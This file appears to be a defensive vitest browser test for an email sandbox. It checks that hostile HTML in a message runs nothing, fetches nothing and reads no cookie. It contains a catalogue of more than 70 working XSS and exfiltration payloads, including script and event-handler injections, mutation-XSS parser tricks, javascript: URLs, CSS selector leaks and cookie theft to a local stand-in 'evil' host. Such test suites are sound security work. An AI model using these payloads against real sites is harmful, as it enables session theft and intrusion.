/**
 * A message is what somebody else wrote. Contract, "The sandbox, for people and teams"; acceptance, X4: whatever stands in it,
 * in a browser it runs nothing, asks nothing of anybody, leads nowhere and reads no cookie; nor does the page around it.
 */
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inertHtml } from '../../../src/sandbox/pages/inert.ts';
import { type Browser, hasBrowser, launch, linkTo, sendEmail, visit } from '../../support/pages.ts';
import { runSandbox, type SocketSandbox, temporaryFolder } from '../../support/running-sandbox.ts';

/**
 * What each tries to do is told to `evil`: a server that only counts who comes. `ran` is code that says so too, by a request
 * and by a mark on the window above.
 */
function tricks(evil: string): Readonly<Record<string, string>> {
  const ran = `new Image().src='${evil}/ran?'+document.cookie;try{top.document.title='ran';top.ran=1}catch(e){}`;
  const script = `<script>${ran}</script>`;
  return {
    'script element': script,
    'script from elsewhere': `<script src="${evil}/script.js"></script>`,
    'script in mixed case, with a slash': `<ScRiPt/x>${ran}</sCrIpT >`,
    'script without an end': `<script>${ran}`,
    'script as a module': `<script type="module">${ran}</script>`,
    'script that two tags make': `<scr<script>ipt>${ran}</scr</script>ipt>`,
    'script behind a comment that ends early': `<!--><script>${ran}</script>-->`,
    'script behind a conditional comment': `<!--[if gte IE 4]>${script}<![endif]-->`,
    'script behind a title that is open': `<title><a title="</title>${script.replaceAll('"', '&quot;')}">`,
    'script behind noscript': `<noscript><p title="</noscript>${script}">`,
    'script behind a style of SVG': `<svg><style><img src=x onerror="${ran}"></style></svg>`,
    'script behind a style of MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
    'script behind a text area': `<textarea></textarea>${script}`,
    'script behind template': `<template>${script}</template>`,
    'script behind xmp, plaintext and noembed': `<xmp></xmp><noembed></noembed>${script}<plaintext>`,
    'onerror of an image': `<img src="x" onerror="${ran}">`,
    'onerror without quotes and blanks': `<img/src=x/onerror=top.ran=1>`,
    'onerror with new lines': `<img src=x onerror\n=\n"${ran}">`,
    'onload of a body': `</head><body onload="${ran}" onpageshow="${ran}" background="${evil}/background">`,
    'onload of SVG': `<svg onload="${ran}"><circle r="1"/></svg>`,
    'onbegin of an animation': `<svg><animate onbegin="${ran}" attributeName="x" dur="1s"/></svg>`,
    'ontoggle of details': `<details open ontoggle="${ran}"><summary>x</summary></details>`,
    'onfocus with autofocus': `<input autofocus onfocus="${ran}"><select autofocus onfocus="${ran}"></select>`,
    'onstart of marquee': `<marquee onstart="${ran}" onbounce="${ran}" loop="1" width="0">x</marquee>`,
    'onerror of video, audio and source': `<video src=x onerror="${ran}"><source onerror="${ran}" src=y></video><audio src=x onerror="${ran}">`,
    onanimationstart: `<style>@keyframes x{from{left:0}}p{animation:x 1ms}</style><p onanimationstart="${ran}">x</p>`,
    ontransitionrun: `<p style="transition:color 1ms" ontransitionrun="${ran}">x</p>`,
    'onscrollend and oncontentvisibilityautostatechange': `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${ran}">x</p>`,
    'popover and its events': `<button popovertarget=x>y</button><p popover id=x onbeforetoggle="${ran}">z</p>`,
    'javascript: in a link': `<a id="bait" href="javascript:${ran}">click</a>`,
    'javascript: with entities and tabs': `<a id="bait" href="java&#9;script&colon;${ran}">click</a>`,
    'javascript: in an image, a background and a table': `<img src="javascript:${ran}"><table background="javascript:${ran}"><tr><td>x`,
    'javascript: in a frame': `<iframe src="javascript:${ran}"></iframe>`,
    'vbscript: and data: in links': `<a id="bait" href="data:text/html,${encodeURIComponent(script)}">click</a><a href="vbscript:x">y</a>`,
    'data: HTML in frames and objects': `<iframe src="data:text/html,${encodeURIComponent(script)}"></iframe><object data="data:text/html,${encodeURIComponent(script)}"></object><embed src="data:text/html,${encodeURIComponent(script)}">`,
    'iframe with srcdoc': `<iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe>`,
    'iframe from elsewhere': `<iframe src="${evil}/frame"></iframe><frameset><frame src="${evil}/frame"></frameset>`,
    'iframe of the pages themselves': `<iframe src="/ui/1/outbox"></iframe><img src="/ui/1/outbox"><img src="/control/stop">`,
    'object, embed and applet': `<object data="${evil}/object"><param name="movie" value="${evil}/movie"></object><embed src="${evil}/embed"><applet code="${evil}/applet"></applet>`,
    'portal and fenced frames': `<portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
    'SVG in an image and in use': `<svg><image href="${evil}/svg" xlink:href="${evil}/svg2"/><use href="${evil}/use#x"/><feImage href="${evil}/fe"/></svg>`,
    'foreign object': `<svg><foreignObject><iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe></foreignObject></svg>`,
    'meta refresh': `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
    'meta refresh to a script': `<META HTTP-EQUIV="Refresh" CONTENT="0;URL='javascript:${ran}'">`,
    'meta that sets a cookie or a policy': `<meta http-equiv="Set-Cookie" content="a=1"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url">`,
    base: `<base href="${evil}/"><img src="relative"><a id="bait" href="x">click</a>`,
    'base with a target': `<base target="_top"><a id="bait" href="${evil}/base-target">click</a>`,
    'form that is sent': `<form action="${evil}/form" target="_top"><input type="submit" id="bait" value="click"></form>`,
    'form by a button elsewhere': `<form id="f"></form><button id="bait" form="f" formaction="${evil}/formaction" formtarget="_top">click</button>`,
    'form of the pages themselves': `<form method="post" action="/ui/1/clock"><input name="do" value="run"><button id="bait">click</button></form>`,
    'link to the top window': `<a id="bait" href="${evil}/top" target="_top">click</a>`,
    'link to a new window': `<a id="bait" href="${evil}/blank" target="_blank" rel="opener">click</a>`,
    'link in the frame itself': `<a id="bait" href="${evil}/self">click</a>`,
    'link with a ping': `<a id="bait" href="#x" ping="${evil}/ping">click</a>`,
    'link of an image map': `<img usemap="#m" width="50" height="50" alt="x"><map name="m"><area id="bait" href="${evil}/area" shape="default"></map>`,
    'link of SVG': `<svg width="50" height="50"><a id="bait" xlink:href="${evil}/svg-a" target="_top"><text y="20">click</text></a></svg>`,
    'link that an animation makes': `<svg width="50" height="50"><a id="bait"><animate attributeName="href" values="${evil}/animated"/><set attributeName="href" to="${evil}/set"/><text y="20">click</text></a></svg>`,
    'link behind a style of SVG': `<svg><style><a id="bait" href="${evil}/hidden" target="_top">click</a></style></svg>`,
    'link of MathML': `<math href="${evil}/math" id="bait"><mi>click</mi></math>`,
    'style from elsewhere': `<link rel="stylesheet" href="${evil}/style.css"><style>@import url(${evil}/import.css);@import "${evil}/import2.css";</style>`,
    'style that loads pictures and fonts': `<style>@font-face{font-family:x;src:url(${evil}/font)}p{font-family:x;background:url(${evil}/picture);list-style:url(${evil}/list);cursor:url(${evil}/cursor),auto;content:url(${evil}/content)}p::before{content:image-set("${evil}/set" 1x)}</style><p style="background-image:url(${evil}/inline)">x</p>`,
    'style that reads by selectors': `<style>input[value^=a]{background:url(${evil}/a)}:root:has(a){--x:url(${evil}/has);background:var(--x)}</style><input value="abc">`,
    'style of old browsers': `<style>p{behavior:url(${evil}/htc);-moz-binding:url(${evil}/xbl);width:expression(${ran})}</style><p>x</p>`,
    'link that is fetched ahead': `<link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="script" href="${evil}/preload"><link rel="dns-prefetch" href="${evil}"><link rel="preconnect" href="${evil}"><link rel="modulepreload" href="${evil}/module"><link rel="icon" href="${evil}/icon"><link rel="manifest" href="${evil}/manifest">`,
    'speculation rules': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/speculated"]}]}</script>`,
    'import map': `<script type="importmap">{"imports":{"x":"${evil}/x.js"}}</script><script type="module">import "x"</script>`,
    'pictures of every kind': `<img src="${evil}/img" srcset="${evil}/srcset 2x"><picture><source srcset="${evil}/source"><img></picture><video poster="${evil}/poster" src="${evil}/video"><track src="${evil}/track"></video><audio src="${evil}/audio" autoplay></audio><input type="image" src="${evil}/input"><body background="${evil}/body">`,
    'the tracking pixel of the message itself': `<img src="/t/o/t2-480">`,
    'declarative shadow root': `<div><template shadowrootmode="open">${script}<img src=x onerror="${ran}"></template></div>`,
    'UTF-7 and other codings': `<meta charset="utf-7">+ADw-script+AD4-top.ran=1+ADw-/script+AD4-`,
    'XML, CDATA and processing instructions': `<?xml version="1.0"?><![CDATA[${script}]]><?xml-stylesheet href="${evil}/xsl"?>`,
    'a page that ends and begins again': `</body></html><html><head>${script}</head><body onload="${ran}">`,
    'DOM clobbering': `<form name="htmx"><input name="config"></form><img name="getElementById"><a id="main" data-live="here"></a>`,
    'htmx attributes': `<div hx-get="${evil}/htmx" hx-trigger="load" data-hx-on:load="${ran}" hx-on::load="${ran}">x</div>`,
    'dialogs, downloads and windows': `<a id="bait" href="${evil}/download" download>click</a><script>alert(1);open('${evil}/open')</script>`,
  };
}

let folder: Awaited<ReturnType<typeof temporaryFolder>>;
let sandbox: SocketSandbox;
let browser: Browser;
let evil: Server;
let address = '';
const came: string[] = [];
beforeAll(async () => {
  evil = createServer(({ url = '', method }, answer) => {
    const bare = /^\/bare\/([0-9]+)$/.exec(url)?.[1];
    if (bare !== undefined) {
      answer.setHeader('content-type', 'text/html; charset=utf-8');
      answer.end(`<!doctype html>${MARK}${Object.values(tricks(address))[Number(bare)] ?? ''}`);
      return;
    }
    came.push(`${method} ${url}`);
    answer.setHeader('access-control-allow-origin', '*');
    answer.end('window.ran = 1; top.ran = 1');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  const at = evil.address();
  address = `http://127.0.0.1:${typeof at === 'object' ? at?.port : 0}`;
  folder = await temporaryFolder();
  sandbox = await runSandbox(folder.path, { clock: 'manual', seed: 'demo' });
  if (hasBrowser) browser = await launch();
});
afterAll(async () => {
  await browser?.close();
  expect(sandbox.reports).toEqual([]);
  await sandbox.stop();
  await folder.remove();
  await new Promise((resolve) => evil.close(resolve));
});

/** What a recipient did: none of it may be a page's doing. */
const counts = async (): Promise<unknown> => {
  const { data } = (await sandbox.api('GET', '/v1/task?count=200')).json.response;
  return [data, (await sandbox.control('clock show')).json.data];
};

const MARK = '<p id="mark">this is the message</p>';

describe.runIf(hasBrowser)('a hostile message', () => {
  it('would do harm where nothing holds it back: the tricks are real ones', async () => {
    const page = await browser.newPage();
    page.on('dialog', (dialog) => {
      dialog.dismiss().catch(() => undefined);
    });
    const harmful: number[] = [];
    for (const at of Object.keys(tricks(address)).keys()) {
      const before = came.length;
      await page.goto(`${address}/bare/${at}`, { waitUntil: 'load', timeout: 5000 }).catch(() => undefined);
      const bait = page.locator('#bait').first();
      if ((await bait.count().catch(() => 0)) > 0)
        await bait.click({ force: true, timeout: 500, noWaitAfter: true }).catch(() => undefined);
      await page.waitForTimeout(20);
      const ran = await page.evaluate('typeof window.ran').catch(() => 'gone');
      if (came.length > before || ran !== 'undefined' || !page.url().includes('/bare/')) harmful.push(at);
    }
    await page.close();
    came.length = 0;
    expect(harmful.length).toBeGreaterThan(40);
  });

  it('does nothing: no code, no request, no way out, whatever it tries', { timeout: 240_000 }, async () => {
    const names = Object.keys(tricks(address));
    expect(names.length).toBeGreaterThan(70);
    const ids: string[] = [];
    // As it is delivered: personalisation and tracking have done to it what they do.
    for (const trick of Object.values(tricks(address))) ids.push(await sendEmail(sandbox, `${MARK}${trick}`));
    const before = await counts();
    const seen = await visit(browser, sandbox, 'outbox');
    const { page, context } = seen;
    const opened: string[] = [];
    context.on('page', (each) => opened.push(each.url()));
    page.on('dialog', (dialog) => {
      opened.push(`dialog ${dialog.message()}`);
      dialog.dismiss().catch(() => undefined);
    });
    for (const [at, id] of ids.entries()) {
      const name = names[at] ?? '';
      const path = `${sandbox.ready.baseUrl}/ui/1/outbox/${id}`;
      await page.goto(path);
      const frame = page.frames().find((each) => each.url().includes('frame=html'));
      expect([
        name,
        await frame?.evaluate('Document.prototype.querySelector.call(document, "#mark")?.textContent'),
      ]).toEqual([name, expect.anything()]);
      const bait = frame?.locator('#bait').first();
      if (bait && (await bait.count()) > 0) {
        // With the mouse, and as a person who has the keyboard alone.
        await bait.click({ force: true, timeout: 2000, noWaitAfter: true }).catch(() => undefined);
        await bait.focus({ timeout: 1000 }).catch(() => undefined);
        await page.keyboard.press('Enter');
      }
      await page.waitForTimeout(30);
      expect([
        name,
        page.url(),
        await page.evaluate('typeof window.ran'),
        opened,
        seen.outside,
        came,
      ]).toEqual([name, path, 'undefined', [], [], []]);
      expect(await page.title()).not.toBe('ran');
      // It is the frame of the message still, and has no cookie to read.
      expect([name, page.frames().some((each) => each.url().includes(`${id}?frame=html`))]).toEqual([
        name,
        true,
      ]);
      expect(
        await frame?.evaluate('(() => { try { return document.cookie } catch { return "none" } })()'),
      ).toBe('none');
    }
    expect(await counts()).toEqual(before);
    await seen.close();
  });

  it('opened in a window of its own, is the page around it', async () => {
    const id = await sendEmail(
      sandbox,
      `${MARK}<script>document.title='ran'</script><a href="${address}/alone">x</a>`,
    );
    const seen = await visit(browser, sandbox, 'outbox');
    await seen.page.goto(`${sandbox.ready.baseUrl}/ui/1/outbox/${id}?frame=html`);
    expect(seen.page.url()).toBe(`${sandbox.ready.baseUrl}/ui/1/outbox/${id}`);
    expect(await seen.page.title()).toContain('A message');
    await seen.close();
  });

  it('comes under a policy that is enough by itself, and asks for no cookie', async () => {
    const cookie = await cookieOf();
    const { headers } = await sandbox.get('/ui/1/outbox/t2-480?frame=html', { headers: { cookie } });
    expect(headers.get('content-security-policy')).toBe(
      "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'; frame-ancestors 'self'",
    );
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('set-cookie')).toBeNull();
  });

  it('is quoted everywhere else: subject, sender, text, source, headers', async () => {
    const nasty = `"><script>top.ran=1</script><img src=x onerror=top.ran=1>'`;
    const made = await sandbox.api('POST', '/v1/emailMessage', {
      ...{
        name: nasty,
        subject: nasty,
        fromname: nasty.slice(0, 60),
        fromemail: 'news@harbourcoffee.example',
      },
      ...{ replyemail: 'hello@harbourcoffee.example', text: nasty, html: `<p>${nasty}</p>` },
    });
    expect(made.status).toBe(202);
    await sandbox.control('credits set', { email: 100_000 });
    const { time } = (await sandbox.control('clock show')).json.data;
    const task = await sandbox.api('POST', '/v1/task', {
      ...{
        name: nasty,
        channel: 'email',
        message_id: made.json.response.data.id,
        list_id: 1,
        search_id: null,
      },
      scheduledtime: time + 60,
    });
    await sandbox.control('clock run');
    const id = (await sandbox.control('outbox list', { task: task.json.response.data.id, limit: 1 })).json
      .data[0].id;
    const seen = await visit(browser, sandbox, 'outbox');
    for (const path of [
      ...[
        'outbox',
        `outbox?search=${encodeURIComponent(nasty)}`,
        `outbox?channel=${encodeURIComponent(nasty)}`,
      ],
      ...['text', 'source', 'headers', 'links', 'html', encodeURIComponent(nasty)].map(
        (view) => `outbox/${id}?view=${view}`,
      ),
      ...['clock', `requests?status=${encodeURIComponent(nasty)}`],
    ]) {
      await seen.page.goto(`${sandbox.ready.baseUrl}/ui/1/${path}`);
      expect([path, await seen.page.evaluate('typeof window.ran')]).toEqual([path, 'undefined']);
      expect([path, await seen.page.locator('script:not([src]), main img').count()]).toEqual([path, 0]);
    }
    expect(seen.outside).toEqual([]);
    await seen.close();
  });
});

async function cookieOf(): Promise<string> {
  const link = await linkTo(sandbox, 'outbox');
  const { headers } = await sandbox.get(link.slice(sandbox.ready.baseUrl.length));
  return (headers.get('set-cookie') ?? '').split(';')[0] ?? '';
}

describe('HTML made inert', () => {
  it.each([
    ['<a href="https://x.example" target=_top>y</a>', '<a data-link >y</a>'],
    ['<p onclick=x()>y</p>', '<p >y</p>'],
    ['<meta http-equiv=refresh content=0><p>y</p>', '<p>y</p>'],
    ['<form action=/x><input name=a></form>', '<input name=a></form>'],
  ])('%s is %s', (html, wanted) => {
    expect(inertHtml(html, 'light')).toMatch(new RegExp(`${wanted.replaceAll(/[?.*+()[\]]/g, '\\$&')}$`));
  });

  it('keeps what a message looks like', () => {
    const html =
      '<!doctype html><html><head><style>p{color:red}</style></head><body bgcolor="#fff"><table><tr><td style="padding:1px">x</td></tr></table></body></html>';
    const head = html.indexOf('<html>');
    const inert = inertHtml(html, 'light');
    expect(inert.startsWith('<!doctype html><meta charset')).toBe(true);
    expect(inert.endsWith(html.slice(head))).toBe(true);
  });
});
